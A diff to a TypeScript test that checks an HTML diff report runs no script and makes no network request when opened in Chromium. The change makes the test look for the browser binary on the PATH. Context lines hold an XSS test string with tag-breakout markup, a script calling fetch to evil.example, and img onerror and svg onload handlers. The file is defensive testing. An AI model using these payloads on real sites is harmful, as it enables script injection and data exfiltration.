@@ -1,7 +1,7 @@
 /** The HTML report of a hostile pair, opened in a browser: no script runs, and nothing is asked of the network. */
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
-import { existsSync, writeFileSync } from 'node:fs';
+import { writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -10,13 +10,15 @@ import { pathToFileURL } from 'node:url';
 import { promisify } from 'node:util';
 import { diff } from '../../core/diff.ts';
 import { diffReportIn } from '../../core/report/report.ts';
+import { onPath } from '../support/commands.ts';
 import { scratchFolder } from '../support/scratch.ts';
 import { manifest, manifestName } from './case.ts';
 import { writePieces } from './pieces.ts';
 import { deflated, zip } from './zip-builder.ts';
 
-const chromium = '/usr/bin/chromium';
-const skip = !existsSync(chromium) && `there is no ${chromium}`;
+const browsers = ['chromium', 'chromium-browser', 'google-chrome', 'chrome'];
+const chromium = browsers.map(onPath).find((path) => path !== null) ?? '';
+const skip = chromium === '' && 'there is no Chromium or Chrome';
 const attack =
   '</style></title></script>"\'><script>document.title="ran";fetch("http://evil.example/s")</script>' +
   '<img src="http://evil.example/i.png" onerror="document.title=\'ran\'"><svg onload="document.title=\'ran\'">' +
